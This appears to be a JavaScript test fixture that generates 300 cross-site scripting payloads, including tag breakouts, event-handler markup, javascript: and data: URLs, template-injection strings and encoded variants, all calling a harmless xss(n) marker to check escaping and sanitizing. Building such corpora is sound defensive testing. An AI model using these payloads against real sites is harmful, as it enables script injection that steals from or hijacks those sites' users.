// Texts that become a program wherever a page takes one for markup, for an address or for its own script. Each calls
// xss(its number) when it runs; xss.test.mjs shows first that they do run where nobody looks after them.

/// What breaks out of where the text stands, before the markup begins.
const exits = ["", "\">", "'>", "</textarea>", "</title>", "</style>", "-->", "</option></select>", "]]>", "</svg>"];

/// Markup that runs by itself once it is in the document.
const alive = [
    (n) => `<img src=x onerror=xss(${n})>`,
    (n) => `<svg onload=xss(${n})>`,
    (n) => `<svg><script>xss(${n})</script></svg>`,
    (n) => `<iframe srcdoc="<script>parent.xss(${n})</script>">`,
    (n) => `<iframe src=javascript:parent.xss(${n})>`,
    (n) => `<details open ontoggle=xss(${n})>`,
    (n) => `<input autofocus onfocus=xss(${n})>`,
    (n) => `<video><source onerror=xss(${n})></video>`,
    (n) => `<audio src=x onerror=xss(${n})>`,
    (n) => `<img/src="x"onerror=xss(${n})>`,
    (n) => `<IMG SRC=x ONERROR="xss(${n})">`,
    (n) => `<img src=x onerror=&#120;ss(${n})>`,
    (n) => `<iframe onload=xss(${n})>`,
    (n) => `<svg><animate onbegin=xss(${n}) attributeName=x dur=1s>`,
    (n) => `<script>xss(${n})</script>`,
    (n) => `<body onload=xss(${n})>`,
    (n) => `<svg><image href=x onerror=xss(${n})>`,
    (n) => `<link rel=stylesheet href=x onerror=xss(${n})>`,
    (n) => `<math><mtext><img src=x onerror=xss(${n})>`,
    (n) => `<input type=image src=x onerror=xss(${n})>`,
    (n) => `<picture><source srcset=x><img onerror=xss(${n}) src=x></picture>`,
    (n) => `<form action=javascript:xss(${n})><img src=x onerror=xss(${n})>`,
    (n) => `<style onload=xss(${n})></style>`,
    (n) => `<noscript><p title="</noscript><img src=x onerror=xss(${n})>">`,
];

/// What stays inside an attribute, an address or a script of the page's own.
const inside = [
    (n) => `" onmouseover=xss(${n}) autofocus onfocus=xss(${n}) x="`,
    (n) => `' autofocus onfocus=xss(${n}) x='`,
    (n) => `x onerror=xss(${n})`,
    (n) => `javascript:xss(${n})`,
    (n) => `JaVaScRiPt:xss(${n})`,
    (n) => `  javascript:xss(${n})`,
    (n) => `javascript&colon;xss(${n})`,
    (n) => `data:text/html,<script>opener&&opener.xss(${n})</script>`,
    (n) => `vbscript:xss(${n})`,
    (n) => `";xss(${n});//`,
    (n) => `';xss(${n});//`,
    (n) => `\`;xss(${n});//`,
    (n) => `\${xss(${n})}`,
    (n) => `</script><script>xss(${n})</script>`,
    (n) => `\\";xss(${n});//`,
    (n) => `{{xss(${n})}}`,
    (n) => `{{constructor.constructor('xss(${n})')()}}`,
    (n) => `<%=xss(${n})%>`,
    (n) => `#{xss(${n})}`,
    (n) => `url(javascript:xss(${n}))`,
    (n) => `;-)\\u003cimg src=x onerror=xss(${n})\\u003e`,
    (n) => `&lt;img src=x onerror=xss(${n})&gt;`,
    (n) => `%3Cimg%20src=x%20onerror=xss(${n})%3E`,
    (n) => `＜img src=x onerror=xss(${n})＞`,
    (n) => `//evil.invalid/xss(${n})`,
    (n) => `*/xss(${n})/*`,
    (n) => `__proto__[xss]=${n}`,
    (n) => `<!--><img src=x onerror=xss(${n})>`,
    (n) => `<a href=javascript:xss(${n})>nhấn vào đây</a>`,
    (n) => `<img src=x onerror=xss(${n}) alt="Chợ Đồng Xuân">`,
];

export const count = 300;
/// The number of the first that is no markup by itself.
export const inside_from = exits.length * alive.length;

/// 300 of them, all different: every way out before every live one, as far as they go, and what stays inside.
export function payloads() {
    const made = [];
    for (const exit of exits)
        for (const markup of alive) made.push((n) => exit + markup(n));
    for (const one of inside) made.push(one);
    for (const one of inside) made.push((n) => `Cô Lan ${one(n)}`);
    if (made.length !== count) throw new Error(`${made.length} payloads`);
    return made.map((make, number) => make(number));
}

/// Of these, always the same 54: every live one, every way out, and everything that stays inside, alone or behind a name.
export function sample() {
    const all = payloads();
    const inner = all.slice(inside_from);
    return [...alive.map((_, i) => all[i % exits.length * alive.length + i]), ...inside.map((_, i) => inner[i % 2 * inside.length + i])];
}
